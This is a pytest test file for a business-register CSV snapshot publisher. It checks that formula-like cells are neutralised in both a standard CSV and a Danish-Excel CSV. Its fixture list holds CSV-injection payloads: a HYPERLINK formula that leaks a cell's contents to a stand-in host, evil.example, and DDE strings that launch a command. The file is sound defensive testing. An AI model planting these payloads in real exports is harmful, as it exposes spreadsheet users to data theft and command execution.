"""Snapshot CSV cells that a spreadsheet would run as formulas reach it as text: behind a quote,
or (in the Danish-Excel file) inside an Excel string constant, ="...", which is never run."""

from __future__ import annotations

import csv
import io
import re
from datetime import date
from pathlib import Path

import pytest

from chalicelib.blobs import open_blobs
from chalicelib.domain.models import Contact, Point
from chalicelib.domain.reference import load_municipalities
from chalicelib.publishing.opendata import EXCEL_DA_HEADERS
from chalicelib.publishing.snapshot import SnapshotPublisher, neutralise_cell
from chalicelib.store import open_store
from tests.factories import business

YEAR = 2025
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Klik her")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
    "+1",
    "\tTabulator=1+1",
    "\rCarriage=1+1",
]
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
# the one formula the Danish-Excel file writes: a string constant, quotes inside doubled
STRING_CONSTANT = re.compile(r'^="(?:[^"]|"")*"$')
COLUMN_OF = {da: en for en, da in EXCEL_DA_HEADERS.items()}


def shown(cell: str) -> str:
    """What Excel shows for the cell: a string constant's text, or the text after a quote."""
    if STRING_CONSTANT.match(cell):
        return cell[2:-1].replace('""', '"')
    return cell[1:] if cell.startswith("'") else cell


@pytest.fixture(scope="module")
def files(tmp_path_factory: pytest.TempPathFactory) -> dict[str, list[dict[str, str]]]:
    tmp: Path = tmp_path_factory.mktemp("csv")
    store = open_store(f"sqlite:///{tmp / 'csv.db'}")
    store.create_table()
    store.upsert_municipalities(load_municipalities(["376", "390"]))
    rows = []
    for i, payload in enumerate(PAYLOADS):
        rows.append(
            business(
                f"{20000000 + i * 8}",
                name=payload,
                address=payload,
                city=payload,
                industry_text=payload,
                company_form_text=payload,
                contact=Contact(phone="+45 12 34 56 78", email="a@b.example"),
                founded=date(2020, 1, 1),
                location=Point(lon=11.8729 + i / 1000, lat=54.7691),
            )
        )
    store.upsert_businesses(rows)
    blobs = open_blobs(f"file:///{tmp / 'blobs'}")
    manifest = SnapshotPublisher(store, blobs, ("376", "390")).publish(YEAR)
    store.close()
    out = {}
    for name, delimiter in (("businesses.csv", ","), ("businesses-excel-da.csv", ";")):
        raw = blobs.get(f"{manifest['prefix']}/{name}") or b""
        text = raw.decode("utf-8-sig")
        rows = list(csv.DictReader(io.StringIO(text, newline=""), delimiter=delimiter))
        if name == "businesses-excel-da.csv":  # Danish headers, read by the model's names
            rows = [{COLUMN_OF[k]: v for k, v in row.items()} for row in rows]
        out[name] = rows
    return out


@pytest.mark.parametrize("name", ["businesses.csv", "businesses-excel-da.csv"])
def test_no_cell_starts_a_formula(files: dict[str, list[dict[str, str]]], name: str) -> None:
    rows = files[name]
    assert len(rows) == len(PAYLOADS)
    for row in rows:
        for column, cell in row.items():
            if column in ("lon", "lat"):
                continue
            if name == "businesses-excel-da.csv" and STRING_CONSTANT.match(cell):
                continue  # ="..." yields its text and runs nothing
            assert not cell.startswith(DANGEROUS), (name, column, cell)


@pytest.mark.parametrize("name", ["businesses.csv", "businesses-excel-da.csv"])
def test_the_payloads_arrive_whole_behind_one_quote(
    files: dict[str, list[dict[str, str]]], name: str
) -> None:
    if name == "businesses.csv":
        assert {row["name"] for row in files[name]} == {"'" + p for p in PAYLOADS}
    assert {shown(row["name"]) for row in files[name]} == set(PAYLOADS)
    for row in files[name]:
        assert row["address"] == row["city"] == row["industry_text"] == row["name"]
        assert row["company_form_text"] == row["name"]
        assert shown(row["phone"]) == "+45 12 34 56 78"  # a leading + is a formula to Excel too
    if name == "businesses-excel-da.csv":
        # register text that only looks like arithmetic is kept as text, not as a result
        by_payload = {shown(row["name"]): row["name"] for row in files[name]}
        assert by_payload["-2+3"] == '="-2+3"' and by_payload["+1"] == '="+1"'
        assert by_payload["=cmd|' /C calc'!A0"] == "'=cmd|' /C calc'!A0"
        assert files[name][0]["phone"] == '="+45 12 34 56 78"'


def test_numbers_stay_numbers(files: dict[str, list[dict[str, str]]]) -> None:
    for std, da in zip(files["businesses.csv"], files["businesses-excel-da.csv"], strict=True):
        assert float(std["lon"]) > 11.8 and float(std["lat"]) == 54.7691
        assert da["lon"].replace(",", ".") == std["lon"] and "'" not in da["lat"]
        assert std["postcode"] == "4800" and da["postcode"] == '="4800"'  # a code, kept as text
        assert std["id"].isdigit() and da["id"] == f'="{std["id"]}"'
        assert std["founded"] == da["founded"] == "2020-01-01"  # a date Excel reads as a date


@pytest.mark.parametrize(
    ("cell", "shown"),
    [
        ("=1+1", "'=1+1"),
        ("-12.5", "'-12.5"),  # outside the numeric columns a leading minus is neutralised
        ("\t", "'\t"),
        ("Hansen & Søn", "Hansen & Søn"),
        ("a=b", "a=b"),
        ("", ""),
    ],
)
def test_neutralise_cell(cell: str, shown: str) -> None:
    assert neutralise_cell(cell) == shown
